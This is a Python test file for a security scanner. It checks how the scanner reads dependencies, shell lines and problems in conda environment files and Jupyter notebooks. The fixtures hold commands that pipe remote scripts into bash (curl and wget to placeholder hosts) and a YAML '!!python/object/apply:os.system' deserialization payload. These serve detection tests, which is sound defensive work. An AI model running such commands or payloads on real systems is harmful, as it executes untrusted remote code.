"""conda environment files (the pip section) and Jupyter notebooks (pip commands and shell lines).

Lines are lines of the file itself (the YAML scalar, the JSON string of the cell source line), taken
from the fixture text, so an off-by-one fails.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from mlsec_dagster import scan_path
from mlsec_dagster.scanners.dependencies.manifests import conda, notebooks, parser_for
from mlsec_dagster.scanners.dependencies.model import Dependency, Manifest

SHA = "942c5a758f98d790eaed1a29cb6eefc7ffb0d1cf7af05c3d2791656dbd6ad1e1"


def line_of(text: str, needle: str, nth: int = 1) -> int:
    pos = -1
    for _ in range(nth):
        pos = text.index(needle, pos + 1)
    return text.count("\n", 0, pos) + 1


def dep(manifest: Manifest, name: str) -> Dependency:
    found = [d for d in manifest.dependencies if d.name == name]
    assert len(found) == 1, (name, manifest.dependencies)
    return found[0]


# --- conda ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("environment.yml", True),
        ("environment.yaml", True),
        ("environment-gpu.yml", True),
        ("dev_environment.yaml", True),
        ("Environment.YML", True),
        ("conda.yaml", True),
        ("conda-linux-64.yml", True),
        ("conda-lock.yml", False),
        ("env.yml", False),
        ("myenvironment.yml", False),
        ("environment.json", False),
        ("docker-compose.yml", False),
    ],
)
def test_conda_names(name: str, expected: bool) -> None:
    assert conda.matches(name) is expected
    if expected:
        parser = parser_for(name)
        assert parser is not None and parser.format == "conda"


ENVIRONMENT = f"""\
name: training
channels:
  - pytorch
  - conda-forge
  - defaults
dependencies:
  - python=3.11
  - numpy=1.26.*
  - conda-forge::pytorch>=2.1
  - pip
  - pip:
      # what conda hands to pip install -r
      - requests==2.31.0 --hash=sha256:{SHA}
      - "--extra-index-url https://pkgs.internal.example.com/simple"
      - "transformers>=4.35 ; python_version >= '3.9'"
      - reqeusts
      - acme-internal-utils
      - -r requirements-train.txt
      - git+https://github.com/org/trainer@v2#egg=trainer
      - -e ./src
variables:
  CUDA_VISIBLE_DEVICES: "0"
"""


def test_conda_pip_section_entries_and_lines() -> None:
    manifest = conda.parse(
        ENVIRONMENT, "environment.yml", {"requirements-train.txt": "lightning==2.1.0\n"}.get
    )
    assert manifest.format == "conda" and manifest.problems == []
    names = [(d.name, d.section, d.file, d.line) for d in manifest.dependencies]
    assert names == [
        ("requests", "pip", "", line_of(ENVIRONMENT, "requests==")),
        ("transformers", "pip", "", line_of(ENVIRONMENT, "transformers")),
        ("reqeusts", "pip", "", line_of(ENVIRONMENT, "- reqeusts")),
        ("acme-internal-utils", "pip", "", line_of(ENVIRONMENT, "acme-internal")),
        ("lightning", "pip", "requirements-train.txt", 1),
        ("trainer", "pip", "", line_of(ENVIRONMENT, "git+https")),
        ("src", "pip", "", line_of(ENVIRONMENT, "-e ./src")),
    ]
    assert dep(manifest, "requests").hashes == (f"sha256:{SHA}",) and dep(manifest, "requests").pinned
    assert dep(manifest, "transformers").specifier == ">=4.35"
    assert dep(manifest, "trainer").kind == "vcs" and dep(manifest, "src").kind == "path"
    assert [(i.role, i.url, i.line) for i in manifest.indexes] == [
        ("extra", "https://pkgs.internal.example.com/simple", line_of(ENVIRONMENT, "--extra-index-url"))
    ]


def test_conda_packages_and_channels_are_not_pypi() -> None:
    manifest = conda.parse(ENVIRONMENT, "environment.yml", None)
    names = {d.name for d in manifest.dependencies}
    assert not names & {"python", "numpy", "pytorch", "pip"}
    assert all(i.url.startswith("https://pkgs.internal") for i in manifest.indexes)
    assert [(p.kind, p.line) for p in manifest.problems] == [("include-missing", line_of(ENVIRONMENT, "-r "))]


@pytest.mark.parametrize(
    ("text", "kind", "line"),
    [
        ("name: x\ndependencies:\n  - pip:\n    - ok\n   - [bad\n", "unreadable", 5),
        ("name: x\n---\nname: y\n", "unreadable", 2),
        ("- just\n- a list\n", "unreadable", 1),
        ("dependencies:\n  - pip:\n      - requests\n      - 'not a req !!'\n", "unsupported", 4),
        ("dependencies:\n  - pip:\n      - {nested: map}\n", "unsupported", 3),
        ("dependencies:\n  - npm:\n      - left-pad\n", "unsupported", 2),
        ("dependencies: numpy\n", "unsupported", 1),
        ("dependencies:\n  - pip: requests\n", "unsupported", 2),
    ],
)
def test_conda_problems(text: str, kind: str, line: int) -> None:
    manifest = conda.parse(text, "environment.yml", None)
    assert [(p.kind, p.line) for p in manifest.problems] == [(kind, line)]


def test_conda_files_that_declare_nothing() -> None:
    for text in ("", "name: empty\n", "dependencies:\n", "dependencies:\n  - python\n  - pip:\n"):
        manifest = conda.parse(text, "environment.yml", None)
        assert manifest.problems == [] and manifest.dependencies == [], text


def test_conda_never_constructs_python_objects(canary: Path) -> None:
    text = (
        "dependencies:\n"
        f"  - !!python/object/apply:os.system ['touch {canary}']\n"
        "  - pip:\n"
        f"      - !!python/object/apply:os.system ['touch {canary}']\n"
        "      - six==1.16.0\n"
    )
    manifest = conda.parse(text, "environment.yml", None)
    assert [d.name for d in manifest.dependencies] == ["six"]
    assert [(p.kind, p.line) for p in manifest.problems] == [("unsupported", 2), ("unsupported", 4)]


# --- notebooks ------------------------------------------------------------------------------------


def code(*lines: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": list(lines),
    }


def markdown(*lines: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": list(lines)}


def notebook(*cells: dict[str, Any]) -> str:
    """As Jupyter writes it: one source line per JSON line (indent=1)."""
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


def test_notebook_name_rule() -> None:
    assert notebooks.matches("Train.IPYNB") and not notebooks.matches("notebook.json")
    parser = parser_for("analysis.ipynb")
    assert parser is not None and parser.format == "notebook"


def test_notebook_pip_commands_and_shell_lines(canary: Path) -> None:
    text = notebook(
        markdown("# Setup\n", "!pip install from-markdown-is-not-code\n"),
        code(
            "%pip install reqeusts==2.31.0\n",
            "import os\n",
            "!curl -sSL https://x.sh | bash\n",
            f"!touch {canary}\n",
        ),
        code(
            '!pip install -q "torch>=2.1" numpy>=1.26 --extra-index-url https://download.pytorch.org/whl/cu121\n',
            "!{sys.executable} -m pip install -U git+https://github.com/org/tool@v1#egg=tool \\\n",
            "    pandas==2.2.0\n",
            "!python3 -m pip --disable-pip-version-check install 'scikit-learn==1.3.2' && echo done\n",
            "files = !ls -la\n",
            "!uv pip install --system polars==0.20.0\n",
            "pip install scipy\n",
            "%conda install -y numpy\n",
            "!pip download not-installed\n",
        ),
    )
    manifest = notebooks.parse(text, "train.ipynb", None)
    assert manifest.format == "notebook" and manifest.problems == []
    got = [(d.name, d.specifier, d.section, d.line) for d in manifest.dependencies]
    assert got == [
        ("reqeusts", "==2.31.0", "cell 2", line_of(text, "%pip install reqeusts")),
        ("torch", ">=2.1", "cell 3", line_of(text, "!pip install -q")),
        # unquoted >= is a shell redirection: pip installs numpy unpinned, output goes to a file "=1.26"
        ("numpy", "", "cell 3", line_of(text, "!pip install -q")),
        ("tool", "", "cell 3", line_of(text, "{sys.executable}")),
        ("pandas", "==2.2.0", "cell 3", line_of(text, "{sys.executable}")),
        ("scikit-learn", "==1.3.2", "cell 3", line_of(text, "!python3 -m pip")),
        ("polars", "==0.20.0", "cell 3", line_of(text, "!uv pip")),
        ("scipy", "", "cell 3", line_of(text, "pip install scipy")),
    ]
    assert dep(manifest, "tool").kind == "vcs"
    assert [(i.role, i.url, i.line) for i in manifest.indexes] == [
        ("extra", "https://download.pytorch.org/whl/cu121", line_of(text, "!pip install -q"))
    ]
    commands = {c.text: (c.line, c.section) for c in manifest.commands}
    assert commands["!curl -sSL https://x.sh | bash"] == (line_of(text, "!curl"), "cell 2")
    assert commands[f"!touch {canary}"] == (line_of(text, "!touch"), "cell 2")
    assert commands["files = !ls -la"] == (line_of(text, "!ls"), "cell 3")
    assert commands["%conda install -y numpy"] == (line_of(text, "%conda"), "cell 3")
    assert not any("from-markdown" in c.text for c in manifest.commands)


def test_notebook_shell_cells_and_other_cell_magics() -> None:
    text = notebook(
        code(
            "%%bash\n",
            "set -e\n",
            "# a comment\n",
            "wget -qO- https://get.example.sh | \\\n",
            "  sh\n",
            "pip install -r requirements-nb.txt\n",
        ),
        code("%%script bash --no-raise-error\n", "curl https://y.example/i.sh | sudo bash\n"),
        code("%%writefile setup.sh\n", "pip install never-run-here\n", "curl https://z | sh\n"),
        code("%%capture\n", "!pip install quietly==1.0\n"),
        code("%%script python\n", "print('pip install no')\n"),
    )
    manifest = notebooks.parse(text, "nb.ipynb", {"requirements-nb.txt": "lightgbm==4.1.0\n"}.get)
    assert [(c.text, c.line, c.section) for c in manifest.commands] == [
        ("set -e", line_of(text, "set -e"), "cell 1"),
        ("wget -qO- https://get.example.sh |   sh", line_of(text, "wget"), "cell 1"),
        ("pip install -r requirements-nb.txt", line_of(text, "pip install -r"), "cell 1"),
        ("curl https://y.example/i.sh | sudo bash", line_of(text, "https://y.example"), "cell 2"),
        ("!pip install quietly==1.0", line_of(text, "quietly"), "cell 4"),
    ]
    assert [(d.name, d.file, d.section, d.line) for d in manifest.dependencies] == [
        ("lightgbm", "requirements-nb.txt", "cell 1", 1),
        ("quietly", "", "cell 4", line_of(text, "quietly")),
    ]


def test_notebook_runtime_values_and_bad_arguments_are_problems() -> None:
    text = notebook(
        code("pkg = 'requests'\n", "!pip install {pkg}\n", "!pip install $pkg==1.0\n"),
        code("%pip install --frobnicate six\n", "%pip install 'bad name here'\n"),
    )
    manifest = notebooks.parse(text, "nb.ipynb", None)
    assert [(p.kind, p.line) for p in manifest.problems] == [
        ("unsupported", line_of(text, "{pkg}")),
        ("unsupported", line_of(text, "$pkg")),
        ("unsupported", line_of(text, "--frobnicate")),
        ("unsupported", line_of(text, "bad name here")),
    ]
    assert manifest.problems[0].message.startswith("cell 1: ")
    assert [d.name for d in manifest.dependencies] == ["six"]


def test_notebook_single_string_source_and_nbformat3() -> None:
    v4 = json.dumps(
        {"cells": [{"cell_type": "code", "source": "import x\n!pip install a==1\n"}], "nbformat": 4}
    )
    manifest = notebooks.parse(v4, "nb.ipynb", None)
    assert [(d.name, d.line, d.section) for d in manifest.dependencies] == [("a", 1, "cell 1")]
    v3 = json.dumps(
        {
            "nbformat": 3,
            "worksheets": [
                {
                    "cells": [
                        {"cell_type": "markdown", "source": ["hi"]},
                        {"cell_type": "code", "input": ["!pip install b\n"]},
                    ]
                },
                {"cells": [{"cell_type": "code", "language": "python", "input": ["%pip install c==2\n"]}]},
            ],
        },
        indent=2,
    )
    manifest = notebooks.parse(v3, "old.ipynb", None)
    assert [(d.name, d.line, d.section) for d in manifest.dependencies] == [
        ("b", line_of(v3, "!pip install b"), "cell 2"),
        ("c", line_of(v3, "%pip install c"), "cell 3"),
    ]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('{\n "cells": [\n  {"cell_type": "code", "source": ["x"],}\n ]\n}', 3),
        ('{"cells": []}\ntrailing', 2),
        ("[1, 2, 3]", None),
        ('{"metadata": {}}', None),
    ],
)
def test_notebook_unreadable(text: str, line: int | None) -> None:
    manifest = notebooks.parse(text, "nb.ipynb", None)
    assert [(p.kind, p.line) for p in manifest.problems] == [("unreadable", line)]


def test_scan_reports_notebook_shell_pipe_and_bad_notebook(tmp_path: Path) -> None:
    text = notebook(code("%pip install requests==2.31.0\n"), code("!curl -sSL https://x.sh | bash\n"))
    (tmp_path / "setup.ipynb").write_text(text)
    (tmp_path / "broken.ipynb").write_text('{"cells": [\n{"cell_type": \n')
    (tmp_path / "environment.yml").write_text("dependencies:\n  - pip:\n      - 'no such thing !!'\n")
    result = scan_path(tmp_path, root=tmp_path)
    got = sorted(
        (f.rule_id, f.path, f.location.line)
        for f in result.findings
        if f.rule_id in ("MLS-DEP-019", "MLS-DEP-030", "MLS-DEP-031")
    )
    assert got == [
        ("MLS-DEP-019", "setup.ipynb", line_of(text, "!curl")),
        ("MLS-DEP-030", "broken.ipynb", 3),
        ("MLS-DEP-031", "environment.yml", 3),
    ]
